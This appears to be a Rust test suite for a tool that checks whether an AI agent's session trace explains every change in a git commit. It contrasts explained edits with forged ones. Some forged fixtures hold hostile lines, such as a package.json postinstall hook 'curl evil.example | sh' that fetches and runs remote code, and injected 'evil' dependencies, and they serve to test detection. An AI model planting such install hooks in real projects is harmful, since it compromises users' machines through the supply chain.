//! What a session accounts for in a change, and what it does not: `coverage/unexplained-change` where the policy makes it an
//! error.

mod tables;

use std::fmt::Write as _;
use std::sync::LazyLock;

use serde_json::{Value, json};

use crate::repository::Repository;
use crate::world::World;
use tables::{LEAVES, SPELLED, SPELLED_IN_A, SPELLED_IN_PARTS, TAKES_BACK, UNSPELLED};

const POLICY: &str = r#"{"version": 2, "evidence": {"rules": {"coverage/unexplained-change": "error", "coverage/no-session": "error"}}}"#;
const ROOT: &str = "/home/dana/rates";
const STARTED: i64 = 1_771_588_000;
const BASE: &[(&str, &str)] = &[
    ("src/a.py", "A = 1\nAUTH = check()\nB = 2\nlimit = 10\n"),
    ("src/long.rs", "fn main() { let rates = load(\"rates.csv\", 10, true); convert(rates, \"yen\"); }\n"),
    ("package.json", "{\n  \"name\": \"rates\",\n  \"dependencies\": {\n  }\n}\n"),
    ("package-lock.json", "{}\n"),
    ("run.sh", "echo run\n"),
    ("Cargo.toml", "[dependencies]\n"),
    ("Cargo.lock", "\n"),
    ("requirements.txt", "a==1\n"),
    ("src/f.js", "f(1)\ng('a')\n"),
];

/// More lines than are compared.
static LARGE: LazyLock<String> = LazyLock::new(|| "limit = 20\n".repeat(1_600_000));

/// A change, and the session that comes with it.
struct Case {
    name: &'static str,
    calls: Vec<(&'static str, Value)>,
    /// Files of the head, with their content; `-`: deleted.
    head: Vec<(&'static str, &'static str)>,
    meta: Value,
    started: i64,
    executable: Option<&'static str>,
    /// A symbolic link of the head, and the path that it leads to.
    link: Option<(&'static str, &'static str)>,
}

fn case(name: &'static str, calls: Vec<(&'static str, Value)>, head: &[(&'static str, &'static str)]) -> Case {
    Case { name, calls, head: head.to_vec(), meta: json!({}), started: STARTED, executable: None, link: None }
}

fn path(file: &str) -> String {
    format!("{ROOT}/{file}")
}

fn write(file: &str, content: &str) -> (&'static str, Value) {
    ("Write", json!({"file_path": path(file), "content": content}))
}

fn edit(file: &str, old: &str, new: &str) -> (&'static str, Value) {
    ("Edit", json!({"file_path": path(file), "old_string": old, "new_string": new}))
}

fn run(command: &str) -> (&'static str, Value) {
    ("Bash", json!({"command": command}))
}

/// The paths of the findings, and the exit code.
fn judged(case: &Case) -> (i32, Vec<String>) {
    let world = World::empty();
    let repository = Repository::new(&world, "r");
    repository.git(&["config", "core.fileMode", "true"]);
    repository.git(&["remote", "add", "origin", "https://forge.example/acme/rates.git"]);
    repository.file(".agent-scope.json", POLICY);
    for (path, text) in BASE {
        repository.file(path, text);
    }
    repository.commit("base").git(&["checkout", "-q", "-b", "topic"]);
    for (path, text) in &case.head {
        if *text == "-" {
            repository.git(&["rm", "-q", path]);
        } else {
            repository.file(path, text);
        }
    }
    let mut events = vec![json!({"event_type": "session_start", "data": {"cwd": ROOT}})];
    for (tool, arguments) in &case.calls {
        events.push(json!({"event_type": "tool_call", "data": {"tool_name": tool, "arguments": arguments}}));
        events.push(json!({"event_type": "tool_result", "data": {"tool_name": tool, "result": "done"}}));
    }
    let mut lines = String::new();
    for (at, event) in events.iter_mut().enumerate() {
        event["event_id"] = json!(format!("{at:012x}"));
        event["session_id"] = json!("s1");
        event["timestamp"] = json!(case.started + i64::try_from(at).unwrap());
        if event["event_type"] == "tool_result" {
            event["parent_id"] = json!(format!("{:012x}", at - 1));
        }
        writeln!(lines, "{event}").unwrap();
    }
    let mut meta = json!({"session_id": "s1", "started_at": case.started, "agent_name": "claude-code",
        "attribution": {"working_dir": ROOT}});
    for (key, value) in case.meta.as_object().unwrap() {
        meta[key] = value.clone();
    }
    repository.file(".agent-traces/s1/events.ndjson", &lines).file(".agent-traces/s1/meta.json", &meta.to_string());
    repository.git(&["add", "-A", "-f"]);
    if let Some((path, target)) = case.link {
        repository.file("link", target);
        let id = repository.git(&["hash-object", "-w", "link"]).trim().to_owned();
        repository.git(&["update-index", "--add", "--cacheinfo", &format!("120000,{id},{path}")]);
    }
    if let Some(path) = case.executable {
        repository.git(&["update-index", "--chmod=+x", path]);
    }
    repository.git(&["commit", "-q", "-m", "Work\n\nCo-Authored-By: Claude <noreply@anthropic.com>"]);
    let answer = world.run_in("r", &["check", "--base", "main", "--head", "topic", "--format", "json"]);
    let report: Value = serde_json::from_str(&answer.stdout).unwrap_or_else(|_| panic!("{}: {answer:?}", case.name));
    let found = report["findings"].as_array().unwrap().iter();
    let found = found
        .filter(|finding| finding["level"] == "error")
        .map(|finding| format!("{}: {}", finding["rule"].as_str().unwrap(), finding["message"].as_str().unwrap()));
    (answer.code, found.collect())
}

fn honest() -> Vec<Case> {
    let a = "A = 1\nAUTH = check()\nB = 2\nlimit = 20\n";
    let renamed = "A = 1\nAUTH = check()\nB = 2\nmaximum = 10\n";
    let without = "A = 1\nB = 2\nlimit = 10\n";
    let wrapped = "fn main() {\n    let rates = load(\"rates.csv\", 10, true);\n    convert(rates, \"yen\");\n}\n";
    vec![
        case("a whole file", vec![write("src/b.py", "x = 1\ny = 2\n")], &[("src/b.py", "x = 1\ny = 2\n")]),
        case("a short edit inside of a line", vec![edit("src/a.py", "10", "20")], &[("src/a.py", a)]),
        case("a word inside of a line", vec![edit("src/a.py", "limit", "maximum")], &[("src/a.py", renamed)]),
        case(
            "edits of an edit",
            vec![edit("src/a.py", "limit", "maximum"), edit("src/a.py", "maximum = 10", "most = 10")],
            &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nmost = 10\n")],
        ),
        case(
            "an edit of what was written",
            vec![write("src/b.py", "rate = 1\nname = 'yen'\n"), edit("src/b.py", "yen", "euro")],
            &[("src/b.py", "rate = 1\nname = 'euro'\n")],
        ),
        case("lines that an edit took away", vec![edit("src/a.py", "AUTH = check()\n", "")], &[("src/a.py", without)]),
        case("lines that a new content leaves out", vec![write("src/a.py", without)], &[("src/a.py", without)]),
        case("lines that a command took away", vec![run("sed -i /AUTH/d src/a.py")], &[("src/a.py", without)]),
        case(
            "lines in another order, written so",
            vec![edit("src/a.py", "A = 1\nAUTH = check()\nB = 2\n", "B = 2\nAUTH = check()\nA = 1\n")],
            &[("src/a.py", "B = 2\nAUTH = check()\nA = 1\nlimit = 10\n")],
        ),
        case(
            "replaced everywhere",
            vec![(
                "Edit",
                json!({"file_path": path("src/a.py"), "old_string": " = ", "new_string": ": int = ", "replace_all": true}),
            )],
            &[("src/a.py", "A: int = 1\nAUTH: int = check()\nB: int = 2\nlimit: int = 10\n")],
        ),
        case(
            "several lines in the place of a piece",
            vec![edit("src/a.py", "limit = 10", "lower = 1\nlimit = 10\nupper = 30")],
            &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nlower = 1\nlimit = 10\nupper = 30\n")],
        ),
        case("a heredoc", vec![run("cat > src/b.py <<'E'\nx = 1\nE")], &[("src/b.py", "x = 1\n")]),
        case("another name", vec![run("git mv src/a.py src/z.py")], &[("src/a.py", "-"), ("src/z.py", BASE[0].1)]),
        case("deleted", vec![run("rm src/a.py")], &[("src/a.py", "-")]),
        case("an empty file", vec![run("touch src/__init__.py")], &[("src/__init__.py", "")]),
        case(
            "a formatter after an edit",
            vec![edit("src/long.rs", "\"yen\"", "\"euro\""), run("cargo fmt")],
            &[(
                "src/long.rs",
                "fn main() {\n    let rates = load(\"rates.csv\", 10, true);\n    convert(rates, \"euro\");\n}\n",
            )],
        ),
        case("a formatter alone", vec![run("cargo fmt --all")], &[("src/long.rs", wrapped)]),
        case(
            "a package manager",
            vec![run("npm install left-pad")],
            &[
                (
                    "package.json",
                    "{\n  \"name\": \"rates\",\n  \"dependencies\": {\n    \"left-pad\": \"^1.3.0\"\n  }\n}\n",
                ),
                ("package-lock.json", "{\n  \"lockfileVersion\": 3,\n  \"packages\": {}\n}\n"),
            ],
        ),
        case(
            "a dependency, and a build",
            vec![edit("Cargo.toml", "[dependencies]\n", "[dependencies]\nserde = \"1\"\n"), run("cargo build")],
            &[("Cargo.toml", "[dependencies]\nserde = \"1\"\n"), ("Cargo.lock", "serde\n")],
        ),
        case("locks computed anew", vec![run("cargo update -p serde")], &[("Cargo.lock", "serde 2\n")]),
        case(
            "separators at the ends of lines",
            vec![run("npx prettier --write .")],
            &[("src/f.js", "f(1);\ng(\"a\");\n")],
        ),
        case(
            "four edits of one line",
            vec![
                edit("src/a.py", "10", "price"),
                edit("src/a.py", "price", "price * rate"),
                edit("src/a.py", "rate", "rate + fee"),
                edit("src/a.py", "fee", "fee - discount"),
                edit("src/a.py", "limit =", "most ="),
            ],
            &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nmost = price * rate + fee - discount\n")],
        ),
        case(
            "brought back and written again",
            vec![write("src/b.py", "x = 1\n"), run("git add -A && git commit -m x"), run("git checkout -- src/b.py")],
            &[("src/b.py", "x = 1\n")],
        ),
        case(
            "put aside and taken out again",
            vec![write("src/b.py", "x = 1\n"), run("git stash"), run("git stash pop")],
            &[("src/b.py", "x = 1\n")],
        ),
        case(
            "put aside by a patch and taken out again",
            vec![
                edit("src/a.py", "10", "20"),
                run("git diff > /tmp/p && git checkout -- src/a.py && git apply /tmp/p"),
            ],
            &[("src/a.py", a)],
        ),
        Case { link: Some(("src/l.py", "a.py")), ..case("a link", vec![run("ln -s a.py src/l.py")], &[]) },
        Case {
            link: Some(("src/l.py", "a.py")),
            ..case("a link to what a variable says", vec![run("ln -s $F src/l.py")], &[])
        },
        Case {
            link: Some(("run.sh", "a.sh")),
            ..case("a link in the place of a file", vec![run("ln -sf a.sh run.sh")], &[("run.sh", "-")])
        },
        case("emptied", vec![run("truncate -s 0 src/a.py")], &[("src/a.py", "")]),
        Case { executable: Some("run.sh"), ..case("made executable", vec![run("chmod +x run.sh")], &[]) },
        Case {
            executable: Some("run.sh"),
            ..case("made executable in the index", vec![run("git add --chmod=+x run.sh")], &[])
        },
        Case {
            meta: json!({"attribution": {"working_dir": ROOT, "git_repo": "git@forge.example:dana/rates.git"}}),
            ..case("a fork", vec![write("src/b.py", "x = 1\n")], &[("src/b.py", "x = 1\n")])
        },
    ]
}

/// A session that wrote one of two files, and then called git.
fn written_then((file, command): (&'static str, &'static str)) -> Case {
    match file {
        "src/a.py" => {
            let call = edit(file, "limit = 10\n", "limit = 10\nEXTRA = 1\n");
            let head = "A = 1\nAUTH = check()\nB = 2\nlimit = 10\nEXTRA = 1\n";
            case(command, vec![call, run(command)], &[("src/a.py", head)])
        }
        _ => case(command, vec![write(file, "EXTRA = 1\n"), run(command)], &[("src/b.py", "EXTRA = 1\n")]),
    }
}

fn forged() -> Vec<Case> {
    let evil = &[("src/b.py", "EVIL = 1\n")];
    let in_a = &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nlimit = 10\nEVIL = 1\n")];
    let good = || vec![write("src/b.py", "EVIL = 1\n")];
    let without = &[("src/a.py", "A = 1\nB = 2\nlimit = 10\n")];
    let mut cases: Vec<Case> = SPELLED.iter().map(|(command, _)| case(command, vec![run(command)], evil)).collect();
    cases.extend(SPELLED_IN_A.iter().map(|(command, _)| case(command, vec![run(command)], in_a)));
    cases.extend([
        case(
            "a line written by a shell of a list",
            vec![("Bash", json!({"command": ["bash", "-lc", "echo ok > src/b.py"]}))],
            evil,
        ),
        case(
            "lines taken away beside a line that was added",
            vec![run("echo 'EXTRA = 1' >> src/a.py")],
            &[("src/a.py", "A = 1\nB = 2\nlimit = 10\nEXTRA = 1\n")],
        ),
    ]);
    cases.extend([
        case("touch", vec![run("touch src/b.py")], evil),
        case("chmod", vec![run("chmod -R 755 src")], evil),
        case("rm", vec![run("rm -f src/b.py")], evil),
        case("mkdir", vec![run("mkdir -p src")], evil),
        case("more than can be compared", vec![edit("src/a.py", "limit = 10", "limit = 20")], &[("src/a.py", &LARGE)]),
        case("a digit", vec![edit("src/a.py", "x", "1")], in_a),
        case("a letter", vec![edit("src/a.py", "x", "E")], in_a),
        case("a short word", vec![edit("src/a.py", "x", "EVIL")], in_a),
        case(
            "a long word inside of another",
            vec![edit("src/a.py", "x", "VERYLONGNAME")],
            &[("src/a.py", "A = 1\nAUTH = check()\nB = 2\nlimit = 10\nNOVERYLONGNAMES = 1\n")],
        ),
        case(
            "lines taken away beside an edit",
            vec![edit("src/a.py", "limit = 10", "limit = 20")],
            &[("src/a.py", "A = 1\nB = 2\nlimit = 20\n")],
        ),
        case("lines taken away after the file was written", vec![write("src/a.py", BASE[0].1)], without),
        case("other content", vec![write("src/b.py", "GOOD = 1\n")], evil),
        case("written over", vec![write("src/b.py", "EVIL = 1\n"), write("src/b.py", "GOOD = 1\n")], evil),
        case("edited away", vec![write("src/b.py", "EVIL = 1\n"), edit("src/b.py", "EVIL", "GOOD")], evil),
        case("deleted again", vec![write("src/b.py", "EVIL = 1\n"), run("rm src/b.py")], evil),
        case("restored without a change", vec![run("git restore src/a.py")], in_a),
        case("repeated", vec![write("src/b.py", "login()\n")], &[("src/b.py", "login()\nlogin()\nlogin()\n")]),
        case("reordered", vec![write("src/b.py", "check()\nlogin()\n")], &[("src/b.py", "login()\ncheck()\n")]),
        case(
            "other words than a formatter leaves",
            vec![run("cargo fmt")],
            &[("src/long.rs", "fn main() {\n    evil();\n}\n")],
        ),
        case(
            "more than a package manager writes",
            vec![run("npm install left-pad")],
            &[(
                "package.json",
                "{\n  \"name\": \"rates\",\n  \"scripts\": {\n    \"postinstall\": \"curl evil.example | sh\"\n  }\n}\n",
            )],
        ),
        case(
            "a script that begins like a version",
            vec![run("npm install left-pad")],
            &[(
                "package.json",
                "{\n  \"name\": \"rates\",\n  \"postinstall\": \"1 || npx evil\",\n  \"dependencies\": {\n  }\n}\n",
            )],
        ),
        case("emptied, and written by another", vec![run("truncate -s 0 src/b.py")], evil),
        case("a package manager that lists", vec![run("pip list")], &[("requirements.txt", "a==1\nevil\n")]),
        case(
            "a package manager that says its version",
            vec![run("pip --version")],
            &[("requirements.txt", "evil==1\n")],
        ),
        case("the version of cargo", vec![run("cargo --version")], &[("Cargo.toml", "[dependencies]\nevil = \"1\"\n")]),
        case("tests that change a lock", vec![run("cargo test")], &[("Cargo.lock", "evil\n")]),
        case("tests of npm that change a lock", vec![run("npm test")], &[("package-lock.json", "{1}\n")]),
        case("an installation by the lock", vec![run("npm ci")], &[("package-lock.json", "{1}\n")]),
        case(
            "a formatter that only checks",
            vec![run("npx prettier --check .")],
            &[("src/f.js", "f(1);\ng(\"a\");\n")],
        ),
        case("a formatter that only prints", vec![run("npx prettier src/f.js")], &[("src/f.js", "f(1);\ng(\"a\");\n")]),
        case("a call that became two statements", vec![run("cargo fmt")], &[("src/f.js", "f; (1)\ng('a')\n")]),
        case("a text that is a name", vec![run("cargo fmt")], &[("src/f.js", "f(1)\ng(a)\n")]),
        case("the help of a formatter", vec![run("ruff format --help")], &[("src/f.js", "f(1)\ng(a)\n")]),
        Case {
            executable: Some("run.sh"),
            ..case("executable", vec![edit("run.sh", "echo run", "echo on")], &[("run.sh", "echo on\n")])
        },
        Case { started: 0, ..case("of 1970", good(), evil) },
        Case { started: 4_000_000_000, ..case("of 2096", good(), evil) },
        Case {
            meta: json!({"attribution": {"working_dir": ROOT, "git_repo": "https://forge.example/acme/other"}}),
            ..case("of another repository", good(), evil)
        },
        Case { meta: json!({"agent_name": "c"}), ..case("of an agent with a short name", good(), evil) },
    ]);
    cases
}

#[test]
fn sessions_account_for_what_they_wrote_and_for_nothing_else() {
    let mut wrong = Vec::new();
    let spelled = |file: &'static str| {
        move |(command, text): &(&'static str, &'static str)| case(command, vec![run(command)], &[(file, text)])
    };
    let spelled = SPELLED.iter().map(spelled("src/b.py")).chain(SPELLED_IN_A.iter().map(spelled("src/a.py")));
    let in_parts = SPELLED_IN_PARTS.iter().map(|(commands, file, text)| {
        let name = commands.last().copied().unwrap_or_default();
        case(name, commands.iter().map(|command| run(command)).collect(), &[(file, text)])
    });
    let unspelled = UNSPELLED.iter().map(|command| case(command, vec![run(command)], &[("src/b.py", "EXTRA = 1\n")]));
    for case in honest()
        .into_iter()
        .chain(spelled)
        .chain(in_parts)
        .chain(unspelled)
        .chain(LEAVES.iter().copied().map(written_then))
    {
        let (code, found) = judged(&case);
        if code != 0 {
            wrong.push(format!("honest, {}: exit {code}, {found:?}", case.name));
        }
    }
    for case in forged().into_iter().chain(TAKES_BACK.iter().copied().map(written_then)) {
        let (code, found) = judged(&case);
        if code != 1 || !found.iter().all(|found| found.starts_with("coverage/")) {
            wrong.push(format!("forged, {}: exit {code}, {found:?}", case.name));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
